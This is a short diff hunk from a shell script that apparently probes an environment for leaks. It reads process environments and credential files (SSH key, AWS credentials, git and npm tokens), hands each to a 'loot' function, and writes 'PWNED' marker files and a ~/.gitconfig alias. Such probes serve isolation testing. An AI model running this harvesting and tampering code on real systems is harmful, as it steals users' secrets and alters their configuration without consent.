@@ -47,7 +47,7 @@ for f in /proc/[0-9]*/environ; do
   [ -n "$v" ] && loot "proc $f $v"
 done
 for c in .config/gh/hosts.yml .git-credentials .netrc .ssh/id_ed25519 .aws/credentials .npmrc; do
-  v=$(cat "$HOME/$c" 2>/dev/null) && loot "cred $c $v"
+  v=$(cat "$HOME/$c" 2>/dev/null) && [ -n "$v" ] && loot "cred $c $v"
 done
 echo pwned > "$main/PWNED-$PHASE" 2>/dev/null && loot "wrote the main checkout"
 printf '[alias]\n\tpwned-%s = !true\n' "$PHASE" >> "$HOME/.gitconfig" 2>/dev/null && loot "wrote ~/.gitconfig"
